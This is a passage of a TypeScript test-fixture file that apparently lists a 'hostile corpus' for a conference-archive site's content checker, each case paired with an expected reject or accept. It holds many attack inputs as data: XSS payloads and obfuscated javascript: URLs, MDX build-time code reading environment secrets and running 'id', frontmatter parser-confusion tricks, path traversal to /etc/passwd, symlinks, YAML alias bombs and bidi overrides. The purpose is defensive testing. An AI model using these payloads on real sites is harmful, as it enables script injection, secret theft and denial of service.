/**
 * The hostile corpus: content files as an attacker would write them, each laid over the
 * small valid archive in tests/fixtures/base-content/. Every case is pinned by
 * tests/unit/hostile-corpus.test.ts: either `npm run check` rejects it with positioned
 * messages (tests/hostile/expected/<name>.txt), or it is accepted, and then
 * tests/site/hostile-build.test.ts builds every accepted case together and scans the site
 * for anything executable.
 *
 * To add a case, add an entry; the test writes its expected file on the first run with
 * `-u`, and the diff shows what a contributor would read.
 */

export type CaseFile = string | { bytes: number[] } | { symlink: string } | { folder: true };

export interface HostileCase {
  name: string;
  area: 'mdx' | 'frontmatter' | 'yaml' | 'listing' | 'names' | 'identity' | 'size' | 'bio';
  /** Files relative to the content folder. */
  files: Record<string, CaseFile>;
  expect: 'reject' | 'accept';
  /** Rejected by the no-code policy inside the MDX compiler too (the build's own backstop). */
  compilerRejects?: boolean;
  /** What the case probes. */
  why: string;
}

const SUMMIT = 'mini-summit-2021';
const FRONT = `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: Probe\nprovenance: Hostile corpus.\n---\n\n`;

/**
 * A contributed session whose body is `body`. `reject` cases are refused by the policy in the
 * compiler too; `reject-early` ones (characters, nesting, size) never reach a parser at all.
 */
function mdx(name: string, body: string, why: string, expect: 'reject' | 'reject-early' | 'accept' = 'reject'): HostileCase {
  return { name: `mdx-${name}`, area: 'mdx', files: { [`sessions/${name}.mdx`]: `${FRONT}${body}\n` }, expect: expect === 'accept' ? 'accept' : 'reject', compilerRejects: expect === 'reject', why };
}

/** A contributed session written byte for byte (frontmatter tricks). */
function raw(name: string, text: string, why: string, expect: 'reject' | 'accept' = 'reject'): HostileCase {
  return { name: `frontmatter-${name}`, area: 'frontmatter', files: { [`sessions/${name}.mdx`]: text }, expect, why };
}

function corrections(name: string, yaml: string, why: string, expect: 'reject' | 'accept' = 'reject'): HostileCase {
  return { name: `yaml-corrections-${name}`, area: 'yaml', files: { [`summits/${SUMMIT}/corrections.yaml`]: yaml }, expect, why };
}

const SUMMIT_YAML = 'name: Mini Summit 2021\nyear: 2021\ncity: null\ntagline: null\ntracks:\n  - heading: Talks\n    name: Talks\n';

function summitYaml(name: string, yaml: string, why: string, extra: Record<string, CaseFile> = {}): HostileCase {
  return { name: `yaml-summit-${name}`, area: 'yaml', files: { [`summits/${SUMMIT}/summit.yaml`]: yaml, ...extra }, expect: 'reject', why };
}

function aliases(name: string, yaml: string, why: string, extra: Record<string, CaseFile> = {}): HostileCase {
  return { name: `identity-${name}`, area: 'identity', files: { 'speakers/aliases.yaml': yaml, ...extra }, expect: 'reject', why };
}

/** A summit of its own whose listing holds `body` as one session's description or speaker line. */
function listing(name: string, lines: string[], why: string, expect: 'reject' | 'accept' = 'accept'): HostileCase {
  const id = `hostile-${name}`;
  return {
    name: `listing-${name}`,
    area: 'listing',
    files: {
      [`summits/${id}/summit.yaml`]: `name: Hostile ${name}\nyear: 2021\ncity: null\ntagline: null\ntracks:\n  - heading: Talks\n    name: Talks\n`,
      [`summits/${id}/listing.txt`]: ['Hostile listing', '', 'Talks', '', ...lines, ''].join('\n'),
    },
    expect,
    why,
  };
}

function bio(name: string, body: string, why: string): HostileCase {
  return { name: `bio-${name}`, area: 'bio', files: { 'speakers/profiles/jane-doe.md': `---\nname: Jane Doe\n---\n\n${body}\n` }, expect: 'reject', why };
}

const accept = (entry: HostileCase): HostileCase => ({ ...entry, expect: 'accept' });

const session = (title: string, speaker: string, description: string) => [`  • ${title}`, '', `    ${speaker}`, '', '    View Description', '', `    ${description}`, ''];

const CODE_SPAN_SPLIT = '| a | b | c |\n| - | - | - |\n';

export const CASES: HostileCase[] = [
  // ── MDX: the table reproduction and other GFM constructs that change what is code ──
  mdx(
    'table-cell-split',
    `${CODE_SPAN_SPLIT}| \`x | <img src="x" onerror="alert(document.domain)" /> | \` |\n| \`x | {String((await import('node:fs')).readFileSync('/etc/hostname'))} | \` |\n| \`x | <base href="https://evil.example/" /> | \` |`,
    'reproduction 1: GFM splits table cells at | inside backticks, so "code" becomes JSX and expressions',
  ),
  mdx('table-cell-expression', `${CODE_SPAN_SPLIT}| \`a | {process.env.SECRET_CANARY} | b\` |`, 'an expression released from a code span by a table cell boundary'),
  mdx('table-cell-script', `${CODE_SPAN_SPLIT}| \`a | <script>alert(1)</script> | b\` |`, 'a script element released from a code span by a table cell boundary'),
  mdx('table-escaped-pipe', `| a |\n| - |\n| \`x \\| <iframe src="https://evil.example/" />\` |`, 'an escaped pipe keeps a table cell\'s code span whole (text, accepted)', 'accept'),
  mdx('table-header-jsx', `| <img src=x onerror=alert(1) /> |\n| - |\n| b |`, 'JSX in a table header cell'),
  mdx('strikethrough-jsx', '~~<img src="x" onerror="alert(1)" />~~', 'JSX inside GFM strikethrough'),
  mdx('footnote-jsx', 'Text.[^1]\n\n[^1]: <img src="x" onerror="alert(1)" />', 'JSX inside a GFM footnote definition'),
  mdx('task-list-script', '- [ ] <script>alert(1)</script>', 'a script in a GFM task list item'),
  mdx('autolink-then-jsx', 'www.example.com/<img src=x onerror=alert(1) />', 'JSX right after a GFM autolink literal'),
  mdx('code-span-across-lines', '`a\n<img src="x" onerror="alert(1)" />\nb`', 'a JSX element on its own line ends a code span in MDX, so it is checked as JSX'),
  mdx('fenced-code-jsx', '```\n<img src="x" onerror="alert(1)" />\n{process.env.SECRET_CANARY}\n```', 'JSX and an expression inside fenced code (text, accepted)', 'accept'),
  mdx('escaped-jsx', '\\<script>alert(1)\\</script> and \\{process.env.SECRET_CANARY\\}', 'escaped markup and braces render as text', 'accept'),
  // ── MDX: ESM and expressions ──
  mdx('import', "import fs from 'node:fs'\n\nText.", 'an import runs at build time'),
  mdx('export', "export const leaked = process.env.SECRET_CANARY\n\nText.", 'an export runs at build time'),
  mdx('export-default', 'export default function Layout() { return null }\n\nText.', 'an export default replaces the layout'),
  mdx('expression-inline', 'Text {process.env.SECRET_CANARY} text.', 'an inline expression'),
  mdx('expression-flow', "{require('node:child_process').execSync('id')}", 'a block expression'),
  mdx('expression-comment', '{/* a comment */}', 'an expression holding only a comment'),
  mdx('expression-in-link', '[x]({process.env.SECRET_CANARY})', 'an expression where a URL would be'),
  // ── MDX: elements ──
  mdx('script', '<script>alert(1)</script>', 'a script element'),
  mdx('script-uppercase', '<SCRIPT>alert(1)</SCRIPT>', 'a capitalised script element (JSX treats it as a component)'),
  mdx('iframe', '<iframe src="https://evil.example/" />', 'an iframe'),
  mdx('object', '<object data="https://evil.example/x.swf" />', 'an object element'),
  mdx('embed', '<embed src="https://evil.example/x.swf" />', 'an embed element'),
  mdx('base', '<base href="https://evil.example/" />', 'a base element redirects every link'),
  mdx('meta-refresh', '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />', 'a meta refresh'),
  mdx('form', '<form action="https://evil.example/"><input name="password" /></form>', 'a phishing form'),
  mdx('style', '<style>{"body{display:none}"}</style>', 'a style element'),
  mdx('svg-script', '<svg><script>alert(1)</script></svg>', 'a script inside SVG'),
  mdx('math', '<math><mi xlinkHref="javascript:alert(1)">x</mi></math>', 'MathML with a javascript: link'),
  mdx('img-onerror', '<img src="x" onerror="alert(1)" />', 'an image with an error handler'),
  mdx('a-javascript', '<a href="javascript:alert(1)">x</a>', 'a raw link to javascript:'),
  mdx('namespaced-element', '<x:script>alert(1)</x:script>', 'a namespaced JSX name'),
  mdx('member-element', '<Video.Player url="https://example.org/" />', 'a member expression as element name'),
  mdx('fragment', '<>text</>', 'a JSX fragment'),
  mdx('constructor-element', '<constructor onclick="alert(1)">x</constructor>', 'an element named like an Object.prototype property'),
  mdx('proto-element', '<__proto__ />', 'an element named __proto__'),
  mdx('tostring-element', '<toString />', 'an element named toString'),
  mdx('lowercase-video', '<video src="https://example.org/v.mp4" autoPlay />', 'the HTML video element, not the Video component'),
  // ── MDX: allowed components with hostile attributes ──
  mdx('video-javascript-url', '<Video url="javascript:alert(1)" />', 'a javascript: URL on an allowed component'),
  mdx('video-entity-tab-url', '<Video url="jav&#x09;ascript:alert(1)" />', 'a javascript: URL hidden by an entity-encoded tab'),
  mdx('video-entity-colon-url', '<Video url="javascript&#58;alert(1)" />', 'a javascript: URL hidden by an entity-encoded colon'),
  mdx('video-leading-space-url', '<Video url=" javascript:alert(1)" />', 'a javascript: URL after a leading space'),
  mdx('video-data-url', '<Video url="data:text/html,<script>alert(1)</script>" />', 'a data: URL'),
  mdx('video-vbscript-url', '<Video url="vbscript:msgbox(1)" />', 'a vbscript: URL'),
  mdx('video-protocol-relative', '<Video url="//evil.example/x" />', 'a protocol-relative URL'),
  mdx('video-onclick', '<Video url="https://example.org/v" onClick="alert(1)" />', 'an event handler on an allowed component'),
  mdx('video-expression-attribute', '<Video url={"https://example.org/" + process.env.SECRET_CANARY} />', 'an expression as attribute value'),
  mdx('video-spread', "<Video {...{ url: 'javascript:alert(1)' }} />", 'a spread attribute'),
  mdx('video-src', '<Video src="https://example.org/v" />', 'a familiar but unknown attribute (suggests url)'),
  mdx('video-missing-url', '<Video title="A recording" />', 'a component without its required URL'),
  mdx('video-style', '<Video url="https://example.org/v" style="position:fixed;inset:0" />', 'a style attribute on an allowed component'),
  mdx('quote-vbscript', '<Quote author="A" url="vbscript:msgbox(1)">Q</Quote>', 'a vbscript: URL on Quote'),
  mdx('quote-nested-script', '<Quote author="A"><script>alert(1)</script></Quote>', 'a script nested in an allowed component'),
  mdx('quote-hostile-text', '<Quote author=\'<img src=x onerror="alert(1)">\' source="</a><script>alert(2)</script>" url="https://example.org/q">Quoted.</Quote>', 'markup in text attributes renders as text', 'accept'),
  mdx('video-hostile-title', '<Video url="https://example.org/video?x=&quot;onerror=alert(1)" title="</a><script>alert(3)</script>" />', 'markup in a title and quotes in a URL render as text', 'accept'),
  // ── MDX: Markdown links and images ──
  mdx('link-javascript', '[click](javascript:alert(1))', 'a Markdown link to javascript:'),
  mdx('link-javascript-case', '[click](JaVaScRiPt:alert(1))', 'a mixed-case javascript: link'),
  mdx('link-entity-javascript', '[click](&#106;avascript:alert(1))', 'a javascript: link hidden by a character reference'),
  mdx('link-data', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'a data: link'),
  mdx('link-vbscript', '[click](vbscript:msgbox(1))', 'a vbscript: link'),
  mdx('link-protocol-relative', '[click](//evil.example/)', 'a protocol-relative link'),
  mdx('link-backslash', '[click](/\\evil.example/)', 'a backslash link that browsers read as protocol-relative'),
  mdx('definition-javascript', '[click][x]\n\n[x]: javascript:alert(1)', 'a javascript: link through a reference definition'),
  mdx('image-remote', '![tracker](https://evil.example/pixel.png)', 'a remote image (a third-party request from every reader)'),
  mdx('image-local-path', '![secret](../../../../.git/config)', 'an image path that would be read from disk'),
  mdx('image-reference', '![x][i]\n\n[i]: https://evil.example/pixel.png', 'an image through a reference'),
  mdx('link-internal', 'See [the speakers](/speakers/) and [Jane](https://example.org/jane) or [mail](mailto:jane@example.org).', 'site paths, https and mailto links are fine', 'accept'),
  // ── MDX: syntax and resources ──
  mdx('html-comment', '<!-- a comment -->', 'an HTML comment is not MDX'),
  mdx('unbalanced-brace', 'Text { unbalanced', 'an unbalanced brace'),
  mdx('unclosed-element', '<Quote author="A">never closed', 'an unclosed component'),
  mdx('nested-quotes', `${'> '.repeat(10000)}deep`, '10,000 nested blockquotes overflow a recursive parser', 'reject-early'),
  mdx('nested-lists', `${'- '.repeat(10000)}deep`, '10,000 nested list markers take half a minute to parse', 'reject-early'),
  mdx('deep-indentation', `${' '.repeat(200)}- deep`, 'indentation of 200 columns', 'reject-early'),
  mdx('deep-emphasis', `${'*a '.repeat(20)}${'_b '.repeat(20)}x${' b_'.repeat(20)}${' a*'.repeat(20)}`, 'emphasis nested beyond the policy depth'),
  mdx('bracket-storm', '[x]('.repeat(5_000), 'link brackets repeated: a Markdown parser matches them in quadratic time', 'reject-early'),
  mdx('reference-storm', '[x]'.repeat(10_000), 'shortcut references repeated', 'reject-early'),
  mdx('brackets-across-blocks', Array.from({ length: 5 }, () => '[x](https://example.com/) '.repeat(150)).join('\n\n'), 'many links, each block under the cap: the count starts again at every blank line (accepted)', 'accept'),
  mdx('escaped-brackets', '\\['.repeat(5_000), 'escaped brackets are text, not delimiters (accepted)', 'accept'),
  mdx('escaped-backslash-bracket-storm', '\\\\[x]'.repeat(5_000), 'a doubled backslash escapes itself, so every bracket is real', 'reject-early'),
  mdx('emphasis-storm', '*a* '.repeat(5_000), 'emphasis runs repeated: matched in quadratic time', 'reject-early'),
  mdx('fence-in-list-storm', `- item\n\n  \`\`\`\n${'[x]('.repeat(2_000)}\n`, 'a fence the item ends: a scan that skipped "code" would let this through', 'reject-early'),
  mdx('nul-in-body', 'Text\u0000with a NUL.', 'a NUL character in the body', 'reject-early'),
  mdx('control-in-body', 'Text\u0001with a control character.', 'a C0 control character in the body', 'reject-early'),
  mdx('bidi-in-body', 'Safe text \u202Etxt.exe\u202C here.', 'a bidirectional override hides what the text says', 'reject-early'),
  mdx('c1-in-body', 'Text\u0085with a C1 control.', 'a C1 control character (NEL)', 'reject-early'),
  {
    name: 'size-mdx-over-cap',
    area: 'size',
    files: { 'sessions/too-large.mdx': `${FRONT}${'All work and no play. '.repeat(50_000)}\n` },
    expect: 'reject',
    why: 'a Markdown body above the 32 KiB cap',
  },
  {
    name: 'size-profile-over-cap',
    area: 'size',
    files: { 'speakers/profiles/jane-doe.md': `---\nname: Jane Doe\n---\n\n${'All work and no play. '.repeat(3_000)}\n` },
    expect: 'reject',
    why: 'a profile above the 32 KiB cap (the YAML files keep 1 MiB)',
  },
  mdx('size-just-under-cap', Array.from({ length: 50 }, (_, index) => `Paragraph ${index}: ${'a long description of a talk. '.repeat(20)}`).join('\n\n'), 'a 31 KB body: long, but under the cap (accepted)', 'accept'),
  // ── Frontmatter: three parsers must agree ──
  raw(
    'fence-with-text',
    `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: Hidden\nprovenance: probe\nnote: |\n  x\n---x\nimport fs from "node:fs";\nexport const a = fs.writeFileSync("/tmp/summit-archive-canary-written", process.env.SECRET_CANARY ?? "x");\n---\n\nBody text.\n`,
    'reproduction 2: the compiler ends the frontmatter at "---x", the checker at the real "---"',
  ),
  raw('lone-cr-comment', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: Hidden\nprovenance: probe\n# comment\r---\rimport fs from "node:fs"\n---\n\nBody.\n`, 'a YAML comment ended by a lone CR for one parser and not the other'),
  raw('lone-cr-in-value', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: Hidden\rexport const a = 1\nprovenance: probe\n---\n\nBody.\n`, 'a lone CR inside a value'),
  raw('mixed-line-endings', `---\r\nsummit: ${SUMMIT}\ntrack: talks\r\ntitle: Mixed\nprovenance: probe\n---\n\nBody.\n`, 'CRLF and LF mixed'),
  raw('crlf-throughout', `---\r\nsummit: ${SUMMIT}\r\ntrack: talks\r\ntitle: Windows Line Endings\r\nprovenance: probe\r\n---\r\n\r\nBody written on Windows.\r\n`, 'consistent CRLF is fine', 'accept'),
  raw('opening-with-text', `---x\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\n---\n\nBody.\n`, 'text after the opening fence'),
  raw('four-dashes', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\n----\n\nBody.\n`, 'a closing fence of four dashes'),
  raw('fence-trailing-space', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\n--- \n\nBody.\n`, 'a space after the closing fence'),
  raw('toml-fence', `+++\nsummit = "${SUMMIT}"\n+++\n\nBody.\n`, 'a TOML frontmatter'),
  raw('plus-fence-inside', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\n+++\nimport fs from "node:fs"\nprovenance: probe\n---\n\nBody.\n`, 'a "+++" line, which Astro also takes as a fence'),
  raw('leading-blank-line', `\n---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\n---\n\nBody.\n`, 'a blank line before the frontmatter, which Astro still reads as frontmatter'),
  raw('bom-fence-with-text', `\uFEFF---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\n---x\nexport const a = 1\n---\n\nBody.\n`, 'a byte-order mark before a fence trick'),
  raw('never-closed', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\n\nBody.\n`, 'frontmatter that is never closed'),
  raw('no-frontmatter', 'import fs from "node:fs"\n\nBody.\n', 'no frontmatter at all'),
  raw('yaml-alias-bomb', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\ntopics: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: [*f, *f, *f, *f, *f, *f, *f, *f, *f]\n---\n\nBody.\n`, 'a YAML alias bomb ("billion laughs") in frontmatter'),
  raw('yaml-deep-nesting', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: X\nprovenance: probe\ntopics: ${'['.repeat(5000)}${']'.repeat(5000)}\n---\n\nBody.\n`, '5,000 nested YAML lists'),
  raw('nul-in-title', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: "A\u0000B"\nprovenance: probe\n---\n\nBody.\n`, 'a NUL in a frontmatter value'),
  raw('bidi-in-title', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: Safe \u202Egnp.exe\nprovenance: probe\n---\n\nBody.\n`, 'a bidi override in a title'),
  raw('date-shown', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: A Dated Talk\ndate: 2021-05-04\nprovenance: probe\n---\n\nBody.\n`, 'a date is accepted and shown on the page and in the export', 'accept'),
  raw('js-yaml-only-type', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: !!js/function "function () { return process.env.SECRET_CANARY }"\nprovenance: probe\n---\n\nBody.\n`, 'a YAML tag that some parsers execute'),
  raw('duplicate-key', `---\nsummit: ${SUMMIT}\ntrack: talks\ntitle: A\ntitle: B\nprovenance: probe\n---\n\nBody.\n`, 'a key given twice: parsers disagree on which wins'),
  // ── YAML content files ──
  corrections('alias-bomb', `a: &a ["x", "x", "x", "x", "x", "x", "x", "x"]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e]\n${SUMMIT}/streams-in-practice:\n  reason: Expands to millions of values.\n  title: *f\n`, 'a YAML alias bomb in a corrections file'),
  corrections('deep-nesting', `${SUMMIT}/streams-in-practice:\n  reason: Very deep.\n  topics: { add: ${'['.repeat(3000)}${']'.repeat(3000)} }\n`, 'thousands of nested flow lists'),
  corrections('nul-in-reason', `${SUMMIT}/streams-in-practice:\n  reason: "Looks fine\\0 but holds a NUL."\n  title: X\n`, 'a NUL written as a YAML escape'),
  corrections('raw-nul', `${SUMMIT}/streams-in-practice:\n  reason: Looks fine but holds a raw control character \u0007 here.\n  title: X\n`, 'a raw control character in a value'),
  corrections('bidi-in-title', `${SUMMIT}/streams-in-practice:\n  reason: The title hides reversed text.\n  title: "Streams \u202Eecitcarp ni"\n`, 'a bidi override in a corrected title'),
  corrections('lone-cr', `${SUMMIT}/streams-in-practice:\n  reason: A carriage return\r  title: hides a field.\n`, 'a lone CR that some YAML readers take as a line break'),
  corrections('javascript-video', `${SUMMIT}/streams-in-practice:\n  reason: The recording is here.\n  links:\n    video: "javascript:alert(document.cookie)"\n`, 'a javascript: video link'),
  corrections('javascript-slashes', `${SUMMIT}/streams-in-practice:\n  reason: The recording is here.\n  links:\n    video: "javascript://%0aalert(1)"\n`, 'javascript: dressed as a URL with slashes'),
  corrections('data-slides', `${SUMMIT}/streams-in-practice:\n  reason: The slides are here.\n  links:\n    slides: "data:text/html,<script>alert(1)</script>"\n`, 'a data: slides link'),
  corrections('javascript-sourced-slides', `${SUMMIT}/streams-in-practice:\n  reason: The slides are here.\n  links:\n    slides:\n      url: "javascript:alert(1)"\n      source: The deck page says so.\n`, 'a javascript: URL in the sourced-link form'),
  corrections('hide-with-title', `${SUMMIT}/streams-in-practice:\n  reason: Not a session, and also retitled.\n  hide: true\n  title: Something Else\n`, 'hide together with a title: the title would be dropped silently'),
  corrections(
    'markup-in-title',
    `${SUMMIT}/streams-in-practice:\n  reason: A title with markup in it.\n  title: "<img src=x onerror=alert(1)> {process.env.SECRET_CANARY}"\n  provenance: '<script>alert(1)</script> javascript:alert(2) https://decks.example.org/a"onmouseover="alert(3) <img src=x onerror=alert(4)>'\n  links:\n    slides:\n      url: https://decks.example.org/a.pdf\n      source: '<a href="javascript:alert(5)">deck</a> https://decks.example.org/"><script>alert(6)</script>'\n`,
    'markup in a corrected title, a provenance and a link source renders as text; only http(s) addresses become links',
    'accept',
  ),
  summitYaml('listing-outside', `${SUMMIT_YAML}listing: ../../../.git/config\n`, 'reproduction 3: a listing path that leaves the content folder'),
  summitYaml('listing-absolute', `${SUMMIT_YAML}listing: /etc/passwd\n`, 'an absolute listing path'),
  summitYaml('listing-subfolder', `${SUMMIT_YAML}listing: sub/listing.txt\n`, 'a listing path with a folder'),
  summitYaml('listing-symlink', `${SUMMIT_YAML}listing: linked.txt\n`, 'a listing that is a symbolic link', { [`summits/${SUMMIT}/linked.txt`]: { symlink: '../../../../../package.json' } }),
  summitYaml('duplicate-heading', `name: Mini Summit 2021\nyear: 2021\ncity: null\ntracks:\n  - heading: Talks\n    name: Talks\n  - heading: Talks\n    name: More Talks\n`, 'a heading declared twice'),
  summitYaml('tracks-same-id', `name: Mini Summit 2021\nyear: 2021\ncity: null\ntracks:\n  - heading: Talks\n    name: Talks\n  - heading: TALKS!\n    name: talks!\n`, 'two tracks whose names give one id'),
  summitYaml('alias-bomb', `name: &a Mini\nyear: 2021\ncity: null\ntagline: null\ntracks:\n${'  - heading: Talks\n    name: *a\n'.repeat(60)}`, 'more aliases than any content file needs'),
  summitYaml('control-in-name', `name: "Mini\\x1b[31m Summit"\nyear: 2021\ncity: null\ntracks:\n  - heading: Talks\n    name: Talks\n`, 'a terminal escape sequence in a name'),
  // ── Listings: scraped text is data, never markup ──
  listing('markup-in-description', session('Markup', 'Jane Doe, Acme', '<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) {process.env.SECRET_CANARY}'), 'markup, a javascript: link and an expression in a description stay text'),
  listing('markup-in-title', session('<img src=x onerror=alert(1)> | {process.env.SECRET_CANARY}', 'Jane Doe, Acme', 'Text.'), 'markup in a title stays text'),
  listing('markup-in-speakers', session('Speakers', '<script>alert(1)</script>, Acme & Bob <b>Bold</b>, Globex', 'Text.'), 'markup in a speaker line stays text'),
  listing('markdown-table-in-description', session('Tables', 'Jane Doe, Acme', '| `x | <img src=x onerror=alert(1)> | ` |'), 'a GFM table shape in scraped text stays text'),
  listing('control-characters', session('Control\u0000Characters', 'Jane Doe\u0007, Acme', 'A NUL \u0000 and a bell \u0007 and an escape \u001b[31m in scraped text.'), 'control characters in a listing are left out of every output, with a warning'),
  listing('bidi-override', session('Bidi \u202Eelttit', 'Jane Doe, Acme', 'Text \u2066isolated\u2069.'), 'bidi controls in a listing are left out, with a warning'),
  listing('fence-lines', session('Fences', 'Jane Doe, Acme', '---'), 'a line of three dashes in a description'),
  {
    ...listing('invalid-utf8', [], 'bytes that are not UTF-8 in a listing become replacement characters'),
    files: {
      [`summits/hostile-invalid-utf8/summit.yaml`]: 'name: Hostile invalid-utf8\nyear: 2021\ncity: null\ntagline: null\ntracks:\n  - heading: Talks\n    name: Talks\n',
      [`summits/hostile-invalid-utf8/listing.txt`]: { bytes: [...Buffer.from('Talks\n\n  • Broken '), 0xff, 0xfe, ...Buffer.from(' bytes\n\n    Jane Doe, Acme\n\n    View Description\n\n    Text '), 0xc3, 0x28, ...Buffer.from(' here.\n')] },
    },
  },
  {
    name: 'size-listing-over-cap',
    area: 'size',
    files: { [`summits/${SUMMIT}/listing.txt`]: `Talks\n\n${'  • View Description\n\n    Filler text for a listing that is far too large.\n\n'.repeat(60_000)}` },
    expect: 'reject',
    why: 'a listing above the 4 MiB cap',
  },
  // ── Folder and file names ──
  { name: 'names-summit-dot-dot-encoded', area: 'names', files: { 'summits/%2e%2e/summit.yaml': SUMMIT_YAML, 'summits/%2e%2e/listing.txt': 'Talks\n' }, expect: 'reject', why: 'a summit folder named %2e%2e' },
  { name: 'names-summit-uppercase', area: 'names', files: { 'summits/Mini-Summit/summit.yaml': SUMMIT_YAML, 'summits/Mini-Summit/listing.txt': 'Talks\n' }, expect: 'reject', why: 'a summit folder name that breaks the id rule' },
  { name: 'names-summit-space', area: 'names', files: { 'summits/mini summit/summit.yaml': SUMMIT_YAML, 'summits/mini summit/listing.txt': 'Talks\n' }, expect: 'reject', why: 'a summit folder with a space' },
  { name: 'names-summit-symlink', area: 'names', files: { 'summits/linked-summit': { symlink: `${SUMMIT}` } }, expect: 'reject', why: 'a summit folder that is a symbolic link' },
  { name: 'names-presentation-dot-dot-encoded', area: 'names', files: { 'presentations/%2e%2e/source.txt': 'Title\n' }, expect: 'reject', why: 'a presentation folder named %2e%2e' },
  { name: 'names-article-no-source', area: 'names', files: { 'articles/recap/article.yaml': 'summit: null\nnote: none\n' }, expect: 'reject', why: 'an article folder without its source' },
  { name: 'names-session-md', area: 'names', files: { 'sessions/my-talk.md': `${FRONT}Body.\n` }, expect: 'reject', why: 'a session saved as .md' },
  { name: 'names-session-uppercase-ext', area: 'names', files: { 'sessions/my-talk.MDX': `${FRONT}Body.\n` }, expect: 'reject', why: 'a session saved as .MDX' },
  { name: 'names-session-markdown', area: 'names', files: { 'sessions/my-talk.markdown': `${FRONT}Body.\n` }, expect: 'reject', why: 'a session saved as .markdown' },
  { name: 'names-session-uppercase-slug', area: 'names', files: { 'sessions/My-Talk.mdx': `${FRONT}Body.\n` }, expect: 'reject', why: 'a session file name that breaks the id rule' },
  { name: 'names-session-dot-dot', area: 'names', files: { 'sessions/..mdx': `${FRONT}Body.\n` }, expect: 'reject', why: 'a session file named ..mdx' },
  { name: 'names-session-symlink', area: 'names', files: { 'sessions/linked.mdx': { symlink: '../../../../../README.md' } }, expect: 'reject', why: 'a session file that is a symbolic link' },
  { name: 'names-session-folder', area: 'names', files: { 'sessions/nested/talk.mdx': `${FRONT}Body.\n` }, expect: 'reject', why: 'a session inside a sub-folder' },
  { name: 'names-profile-mdx', area: 'names', files: { 'speakers/profiles/jane-doe.mdx': '---\nname: Jane Doe\n---\n\nBio.\n' }, expect: 'reject', why: 'a profile saved as .mdx' },
  { name: 'names-corrections-yml', area: 'names', files: { [`summits/${SUMMIT}/corrections.yml`]: `${SUMMIT}/streams-in-practice:\n  reason: Never read under this name.\n  title: X\n` }, expect: 'accept', why: 'a corrections file named .yml is reported (a warning naming corrections.yaml)' },
  { name: 'names-stray-top-level', area: 'names', files: { 'notes.txt': 'Some notes.\n' }, expect: 'accept', why: 'a stray file at the top of content/ is reported as a warning' },
  { name: 'names-content-symlink', area: 'names', files: { 'topics.yaml': { symlink: '../../../../../package.json' } }, expect: 'reject', why: 'a metadata file that is a symbolic link' },
  // ── Identities ──
  listing('identity-no-latin-letters', [...session('First', '山田太郎, 株式会社データ', 'A name with no Latin letters.'), ...session('Second', '李小龍, 龍公司', 'Another name with no Latin letters.')], 'names with no Latin letters get their own, different ids'),
  { ...listing('identity-same-slug', [...session('One', 'José Pérez, Acme', 'Text one.'), ...session('Two', 'Jose Perez, Globex', 'Text two.')], 'two spellings with one id', 'reject'), area: 'identity' },
  aliases('cycle', 'people:\n  - name: Jane Doe\n    aliases: [John Roe]\n    note: a\n  - name: John Roe\n    aliases: [Jane Doe]\n    note: b\ndistinct: []\n', 'an alias cycle would swap two people'),
  aliases('spelling-twice', 'people:\n  - name: Jane Doe\n    aliases: [J. Doe]\n    note: a\n  - name: Ada Lovelace\n    aliases: [J. Doe]\n    note: b\ndistinct: []\n', 'one spelling listed under two people'),
  aliases('chain', 'people:\n  - name: Jane Doe\n    aliases: [Jane D.]\n    note: a\n  - name: Jane D.\n    aliases: [J. D.]\n    note: b\ndistinct: []\n', "a person's name used as another person's alias"),
  aliases('distinct-same-id', 'people: []\ndistinct:\n  - names: [José Pérez, Jose Perez]\n    note: Two different people.\n', 'a distinct pair whose names give one id', {
    [`summits/${SUMMIT}/listing.txt`]: ['Talks', '', ...session('One', 'José Pérez, Acme', 'Text one.'), ...session('Two', 'Jose Perez, Globex', 'Text two.')].join('\n'),
  }),
  aliases('distinct-merged', 'people:\n  - name: Jane Doe\n    aliases: [J. Doe]\n    note: a\ndistinct:\n  - names: [Jane Doe, J. Doe]\n    note: b\n', 'a pair declared distinct and merged at once'),
  accept(
    aliases('explicit-ids', 'people:\n  - name: José Pérez\n    id: jose-perez-madrid\n    note: Madrid.\n  - name: Jose Perez\n    id: jose-perez-lima\n    note: Lima.\ndistinct:\n  - names: [José Pérez, Jose Perez]\n    note: Two different people.\n', 'explicit ids settle two people whose names give one id', {
      'summits/hostile-explicit-ids/summit.yaml': 'name: Hostile explicit-ids\nyear: 2021\ncity: null\ntagline: null\ntracks:\n  - heading: Talks\n    name: Talks\n',
      'summits/hostile-explicit-ids/listing.txt': ['Talks', '', ...session('One', 'José Pérez, Acme', 'Text one.'), ...session('Two', 'Jose Perez, Globex', 'Text two.')].join('\n'),
    }),
  ),
